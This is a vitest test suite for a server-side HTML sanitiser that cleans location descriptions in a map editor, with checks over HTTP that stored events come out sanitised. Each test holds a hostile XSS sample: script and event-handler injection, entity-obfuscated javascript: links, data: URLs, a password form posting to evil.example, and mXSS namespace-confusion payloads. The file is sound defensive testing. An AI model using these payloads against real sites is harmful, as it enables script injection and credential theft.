/**
 * Rich text (a location's description) is made safe on the server before any event records
 * it. A corpus of hostile rich text, one trick per test: each comes out with nothing that can
 * run a script, load anything, leave the page or restyle it, while the harmless text beside it
 * survives. Benign formatting is kept, links open in a new tab. Then over HTTP: an edit with a
 * hostile description is recorded, and read back, sanitised.
 */
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DomainError } from '../../events/errors.js';
import { emptyMapDocument, Location, type MapDocument } from '../../events/map-document.js';
import type { MapEdit } from '../../events/map-edits.js';
import { RICH_TEXT_CONFIG } from '../../events/rich-text.js';
import {
  MAX_RICH_TEXT_DEPTH,
  MAX_RICH_TEXT_ELEMENTS,
  MAX_RICH_TEXT_ELEMENTS_PER_REQUEST,
  RichTextRejectedError,
  sanitizeMapDocument,
  sanitizeMapEdits,
  sanitizeRichText,
} from '../../server/content/rich-text-sanitizer.js';
import { databaseTargets } from '../support/databases.js';
import { call, projected, registerUser, startTestServer, type TestServer, type TestUser } from '../support/test-server.js';

const { window } = new JSDOM('');
const ALLOWED_TAGS = new Set(RICH_TEXT_CONFIG.ALLOWED_TAGS);
const LINK = /^(https?:|mailto:|tel:)/i;

/** Everything sanitised rich text must never hold, checked on the output as a browser reads it. */
function expectInert(html: string) {
  const body = new window.DOMParser().parseFromString(html, 'text/html').body;
  for (const element of Array.from(body.querySelectorAll('*'))) {
    expect(ALLOWED_TAGS, `<${element.localName}> kept`).toContain(element.localName);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attribute of Array.from(element.attributes)) {
      expect(['href', 'target', 'rel'], `${attribute.name} on <${element.localName}>`).toContain(attribute.name);
    }
    if (element.hasAttribute('href')) {
      expect(element.localName).toBe('a');
      // eslint-disable-next-line no-control-regex -- as a browser reads the scheme: without controls
      expect(element.getAttribute('href')!.replace(/[\s\u0000-\u001f]/g, '')).toMatch(LINK);
      expect(element.getAttribute('target')).toBe('_blank');
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
  expect(html).not.toMatch(/<\s*(script|style|iframe|object|embed|svg|math|template|form|input|button|meta|base|img)\b/i);
  expect(html).not.toMatch(/javascript:|data:|\bon[a-z]+\s*=/i);
  // Stable: sanitising the result again changes nothing.
  expect(sanitizeRichText(html)).toBe(html);
}

/** One trick each: the hostile markup, and exactly what is left of it. */
const HOSTILE: Array<{ trick: string; html: string; safe: string }> = [
  { trick: '<script>', html: '<p>Hours</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>', safe: '<p>Hours</p>' },
  { trick: '<img src=x onerror=...>', html: '<p>Menu<img src=x onerror="alert(1)"></p>', safe: '<p>Menu</p>' },
  { trick: 'event handlers on allowed elements', html: '<p onclick="alert(1)" onmouseover=alert(2)>Hi <b onfocus=alert(3) tabindex=0>there</b></p>', safe: '<p>Hi <b>there</b></p>' },
  { trick: '<a href="javascript:...">', html: '<a href="javascript:alert(document.cookie)">Menu</a>', safe: '<a>Menu</a>' },
  {
    trick: 'jAvAsCrIpT: with entities and whitespace',
    html:
      '<a href="jAvAsCrIpT&#x3A;alert(1)">a</a>' +
      '<a href=" &#x6A;ava&#x09;script&colon;alert(1)">b</a>' +
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>' +
      '<a href="java&#10;script:alert(1)">d</a>' +
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">e</a>' +
      '<a href="\u0001javascript:alert(1)">f</a>' +
      '<a href="vbscript:msgbox(1)">g</a>',
    safe: '<a>a</a><a>b</a><a>c</a><a>d</a><a>e</a><a>f</a><a>g</a>',
  },
  { trick: '<iframe>', html: '<iframe src="https://evil.example/"></iframe>Visit us', safe: 'Visit us' },
  { trick: '<object> and <embed>', html: '<object data="evil.swf" type="application/x-shockwave-flash"><param name="allowScriptAccess" value="always">Fallback</object><embed src="evil.swf">', safe: 'Fallback' },
  { trick: '<svg onload>', html: 'Map<svg onload="alert(1)"><circle r="10"/><script>alert(2)</script></svg>', safe: 'Map' },
  { trick: '<style>', html: '<style>body { background: url("javascript:alert(1)") } @import "//evil.example/x.css";</style><p>Open</p>', safe: '<p>Open</p>' },
  { trick: 'style="background:url(javascript:...)"', html: '<p style="background:url(javascript:alert(1))">Open</p><b style="position:fixed;inset:0">daily</b>', safe: '<p>Open</p><b>daily</b>' },
  {
    trick: '<form>, <input> and <button>',
    html: '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">Sign in</button></form>',
    safe: 'Sign in',
  },
  { trick: '<meta http-equiv=refresh>', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">Welcome', safe: 'Welcome' },
  { trick: '<base href>', html: '<base href="https://evil.example/"><a href="https://shop.example/">Shop</a>', safe: '<a href="https://shop.example/" target="_blank" rel="noopener noreferrer">Shop</a>' },
  {
    trick: 'data: URL links',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><a href=" DATA:text/html,<script>alert(1)</script>">b</a>',
    safe: '<a>a</a><a>b</a>',
  },
  { trick: 'mXSS namespace confusion (math/mtext/table/mglyph/style)', html: 'Hi<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', safe: 'Hi' },
  { trick: 'mXSS through svg and foreignObject', html: 'Hi<svg><p><style><img src=x onerror=alert(1)></style></p></svg><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', safe: 'Hi<p></p><p></p>"&gt;' },
  { trick: 'mXSS through <noscript>', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi</p></noscript>', safe: '<p>Hi</p>' },
  { trick: '<template>', html: '<template><img src=x onerror=alert(1)><script>alert(2)</script></template>Kept', safe: 'Kept' },
  { trick: 'srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">Kept</p>', safe: '<p>Kept</p>' },
  {
    trick: 'target, rel, class, id and data-/aria- attributes from the input',
    html: '<a href="https://shop.example/" target="_self" rel="opener" class="x" id="location" name="cookie" data-x="1" aria-label="y" title="t">Shop</a>',
    safe: '<a href="https://shop.example/" target="_blank" rel="noopener noreferrer">Shop</a>',
  },
  { trick: 'relative and fragment links', html: '<a href="/admin">a</a><a href="#top">b</a><a href="//evil.example/">c</a>', safe: '<a>a</a><a>b</a><a>c</a>' },
];

describe('sanitizeRichText: hostile rich text', () => {
  it.each(HOSTILE)('neutralises $trick', ({ html, safe }) => {
    const out = sanitizeRichText(html);
    expect(out).toBe(safe);
    expectInert(out);
  });
});

describe('sanitizeRichText: benign formatting', () => {
  it('keeps paragraphs, emphasis, headings, lists, quotes and links; links open in a new tab', () => {
    const html =
      '<h3>Opening hours</h3><p>Open <strong>daily</strong>, <em>except</em> <b>holidays</b> and <i>Sundays</i>.<br>Closed <u>early</u> on <s>Fridays</s> <del>Mondays</del>.</p>' +
      '<h4>Menu</h4><ul><li>Sushi</li><li>Ramen</li></ul><ol><li>Order</li><li>Pay</li></ol>' +
      '<blockquote>Best sushi in town.</blockquote>' +
      '<p><a href="https://sakura.example/menu?lang=en&amp;size=l">Menu</a>, <a href="mailto:hello@sakura.example">mail us</a> or <a href="tel:+15550202">call</a>.</p>';
    const out = sanitizeRichText(html);
    const a = (href: string, text: string) => `<a href="${href}" target="_blank" rel="noopener noreferrer">${text}</a>`;
    expect(out).toBe(
      '<h3>Opening hours</h3><p>Open <strong>daily</strong>, <em>except</em> <b>holidays</b> and <i>Sundays</i>.<br>Closed <u>early</u> on <s>Fridays</s> <del>Mondays</del>.</p>' +
        '<h4>Menu</h4><ul><li>Sushi</li><li>Ramen</li></ul><ol><li>Order</li><li>Pay</li></ol>' +
        '<blockquote>Best sushi in town.</blockquote>' +
        `<p>${a('https://sakura.example/menu?lang=en&amp;size=l', 'Menu')}, ${a('mailto:hello@sakura.example', 'mail us')} or ${a('tel:+15550202', 'call')}.</p>`,
    );
    expectInert(out);
  });

  it('unwraps elements it does not keep, with their text', () => {
    expect(sanitizeRichText('<h1>Big</h1><div class="x"><span style="color:red">Red</span> text</div><table><tr><td>Cell</td></tr></table>')).toBe('BigRed textCell');
  });

  it('answers plain text as it is, and escapes stray markup characters once', () => {
    expect(sanitizeRichText('Open daily 9-5, closed on holidays')).toBe('Open daily 9-5, closed on holidays');
    expect(sanitizeRichText('Fish & chips, 5 > 4, &lt;b&gt;')).toBe('Fish & chips, 5 > 4, &lt;b&gt;');
    expect(sanitizeRichText('')).toBe('');
    const escaped = sanitizeRichText('Fish & chips <3');
    expect(escaped).toBe('Fish &amp; chips &lt;3');
    expect(sanitizeRichText(escaped)).toBe(escaped);
  });

  it(`refuses markup of more than ${MAX_RICH_TEXT_ELEMENTS} elements or nested deeper than ${MAX_RICH_TEXT_DEPTH}, before they cost the parser`, () => {
    // Thousands of unclosed elements take jsdom seconds, then overflow its stack: refused
    // first (how long the refusal takes is the benchmarks' question, not a timed test's).
    expect(() => sanitizeRichText('<b>'.repeat(6000))).toThrow(RichTextRejectedError);
    expect(() => sanitizeRichText('<ul><li>'.repeat(2400))).toThrow(/too many elements/);
    expect(() => sanitizeRichText('<i>'.repeat(MAX_RICH_TEXT_DEPTH + 1))).toThrow(/nests too deeply/);
    // Inside a template (a leading one lands in <head>).
    expect(() => sanitizeRichText(`<template>${'<b>'.repeat(200)}`)).toThrow(/nests too deeply/);
    // The depth the parser builds, not the tags' own: formatting left open in closed
    // paragraphs is reopened, all 80 of it nested, around the text that follows.
    const formatting = (from: number) => Array.from({ length: 40 }, (_, i) => `<b title="${from + i}">`).join('');
    expect(() => sanitizeRichText(`<p>${formatting(0)}</p><p>${formatting(40)}</p>x`)).toThrow(/nests too deeply/);
    expect(sanitizeRichText(`<p>${formatting(0)}</p>x`)).toMatch(/^<p>(<b>){40}(<\/b>){40}<\/p>(<b>){40}x(<\/b>){40}$/);
    expect(sanitizeRichText(`${'<i>'.repeat(MAX_RICH_TEXT_DEPTH)}deep`)).toBe(`${'<i>'.repeat(MAX_RICH_TEXT_DEPTH)}deep${'</i>'.repeat(MAX_RICH_TEXT_DEPTH)}`);
  });
});

const hostileDescription = '<p onclick="alert(1)">Fresh <b>daily</b>.</p><img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)">x</a><a href="https://sakura.example/menu">Menu</a>';
const safeDescription = '<p>Fresh <b>daily</b>.</p><a>x</a><a href="https://sakura.example/menu" target="_blank" rel="noopener noreferrer">Menu</a>';

function documentWith(descriptions: string[]): MapDocument {
  const document = emptyMapDocument();
  return { ...document, locations: descriptions.map((description, i) => Location.parse({ id: `l${i}`, title: `L${i}`, layer: 'ground', description })) };
}

describe('sanitizeMapDocument and sanitizeMapEdits', () => {
  it('bounds the work of one request: its descriptions have a budget of elements in all', () => {
    // Each description is within its own limit; together they are over the request's.
    const perDescription = MAX_RICH_TEXT_ELEMENTS - 10;
    const description = '<b>x</b>'.repeat(perDescription);
    const count = Math.floor(MAX_RICH_TEXT_ELEMENTS_PER_REQUEST / (perDescription + 3)) + 1;
    const edits: MapEdit[] = Array.from({ length: count }, (_, i) => ({ type: 'LocationAdded', location: Location.parse({ id: `l${i}`, title: `L${i}`, layer: 'ground', description }) }));
    let error: unknown;
    try {
      sanitizeMapEdits(edits);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).code).toBe('invalid-argument');
    expect((error as DomainError).message).toBe(
      `edits.${count - 1}.location.description: is one too many: the descriptions of one request may have at most ${MAX_RICH_TEXT_ELEMENTS_PER_REQUEST} elements in all`,
    );
    // One fewer fits.
    expect(sanitizeMapEdits(edits.slice(0, count - 1))).toHaveLength(count - 1);
  }, 60_000);

  it('sanitise every description in a document; an already safe document comes back as it is', () => {
    const hostile = documentWith(['Plain', hostileDescription]);
    const safe = sanitizeMapDocument(hostile);
    expect(safe.locations.map((l) => l.description)).toEqual(['Plain', safeDescription]);
    expect(safe.locations[0]).toBe(hostile.locations[0]);
    expect(hostile.locations[1]!.description).toBe(hostileDescription);
    expect(sanitizeMapDocument(safe)).toBe(safe);
  });

  it('sanitise the descriptions of added and updated locations and of imported documents, and pass other edits on', () => {
    const moved: MapEdit = { type: 'LocationMoved', id: 'l0', position: { x: 1, y: 2 } };
    const renamed: MapEdit = { type: 'LocationUpdated', id: 'l0', changes: { title: 'New' } };
    const edits: MapEdit[] = [
      { type: 'LocationAdded', location: Location.parse({ id: 'a', title: 'A', layer: 'ground', description: hostileDescription }) },
      { type: 'LocationUpdated', id: 'a', changes: { title: 'A2', description: hostileDescription } },
      { type: 'DocumentImported', document: documentWith([hostileDescription]) },
      moved,
      renamed,
    ];
    const safe = sanitizeMapEdits(edits);
    expect(safe[0]).toMatchObject({ type: 'LocationAdded', location: { id: 'a', title: 'A', description: safeDescription } });
    expect(safe[1]).toEqual({ type: 'LocationUpdated', id: 'a', changes: { title: 'A2', description: safeDescription } });
    expect(safe[2]).toMatchObject({ type: 'DocumentImported', document: { locations: [{ description: safeDescription }] } });
    expect(safe[3]).toBe(moved);
    expect(safe[4]).toBe(renamed);
  });

  it("refuse with invalid-argument, naming the field, what cannot be kept within a description's length", () => {
    // 20,000 characters, but nearly 100,000 once every `&` is escaped.
    const swollen = documentWith(['ok', `<b>${'&'.repeat(19_993)}</b>`]);
    expect(() => sanitizeMapDocument(swollen)).toThrow(new DomainError('invalid-argument', 'mapData.locations.1.description: must be at most 20000 characters once made safe (99972)'));
    const deep: MapEdit = { type: 'LocationUpdated', id: 'a', changes: { description: '<b>'.repeat(100) } };
    expect(() => sanitizeMapEdits([{ type: 'LocationRemoved', id: 'x' }, deep])).toThrow(
      new DomainError('invalid-argument', `edits.1.changes.description: nests too deeply (at most ${MAX_RICH_TEXT_DEPTH} levels)`),
    );
    expect(() => sanitizeMapEdits([{ type: 'DocumentImported', document: swollen }])).toThrow(/^edits\.0\.document\.locations\.1\.description: /);
  });
});

describe.each(databaseTargets)('rich text over HTTP on $name', (target) => {
  let server: TestServer;
  let owner: TestUser;

  beforeAll(async () => {
    server = await startTestServer(target);
    owner = await registerUser(server);
  });
  afterAll(() => server.close());

  const mapData = async (id: string) =>
    (await fetch(`${server.url}/api/maps/${id}/data`, { headers: { cookie: owner.cookie } }).then((r) => r.json())).result.data as MapDocument;

  it('editMap records and projects a hostile description sanitised', async () => {
    const made = await call(server, 'createMap', { title: 'Food court' }, owner);
    const id = made.body.result as string;
    const added = await call(server, 'editMap', { id, edits: [{ type: 'LocationAdded', location: { id: 'sushi', title: 'Sakura Sushi', layer: 'ground', description: hostileDescription } }] }, owner);
    expect(added.status).toBe(200);
    const updated = await call(server, 'editMap', { id, edits: [{ type: 'LocationUpdated', id: 'sushi', changes: { description: `<h3 onmouseover="alert(1)">New</h3>${hostileDescription}` } }] }, owner);
    expect(updated.status).toBe(200);
    await projected(server, updated.body.position);

    expect((await mapData(id)).locations).toEqual([expect.objectContaining({ id: 'sushi', description: `<h3>New</h3>${safeDescription}` })]);
    const stream = await server.services.store.readStream(`map-${id}`);
    // The version the product keeps before the first edits comes first.
    expect(stream.map((e) => e.type)).toEqual(['MapCreated', 'VersionSaved', 'LocationAdded', 'LocationUpdated']);
    expect((stream[2]!.data as { location: { description: string } }).location.description).toBe(safeDescription);
    expect((stream[3]!.data as { changes: { description: string } }).changes.description).toBe(`<h3>New</h3>${safeDescription}`);
  });

  it('createMap and saveMap record documents with sanitised descriptions', async () => {
    const made = await call(server, 'createMap', { title: 'Mall', mapData: documentWith([hostileDescription]) }, owner);
    expect(made.status).toBe(200);
    const id = made.body.result as string;
    const saved = await call(server, 'saveMap', { id, revision: '0', mapData: documentWith(['<b>ok</b>', `<svg onload=alert(1)>${hostileDescription}`]) }, owner);
    expect(saved.status).toBe(200);
    await projected(server, saved.body.position);

    expect((await mapData(id)).locations.map((l) => l.description)).toEqual(['<b>ok</b>', safeDescription]);
    const [created, save] = await server.services.store.readStream(`map-${id}`);
    expect(JSON.stringify(created!.data)).not.toMatch(/onerror|<script|javascript:/);
    expect(JSON.stringify(save!.data)).not.toMatch(/onload|onerror|<script|<svg|javascript:/);
  });

  it('refuses what cannot be made safe, recording nothing', async () => {
    // A user has two free test maps: the other tests took this one's.
    const other = await registerUser(server);
    const made = await call(server, 'createMap', { title: 'Deep' }, other);
    const id = made.body.result as string;
    const refused = await call(server, 'editMap', { id, edits: [{ type: 'LocationAdded', location: { id: 'x', title: 'X', layer: 'ground', description: '<b>'.repeat(5000) } }] }, other);
    expect(refused.status).toBe(400);
    expect(refused.body.error).toEqual({ status: 'INVALID_ARGUMENT', message: `edits.0.location.description: has too many elements (at most ${MAX_RICH_TEXT_ELEMENTS})` });
    expect((await server.services.store.readStream(`map-${id}`)).map((e) => e.type)).toEqual(['MapCreated']);
  });
});
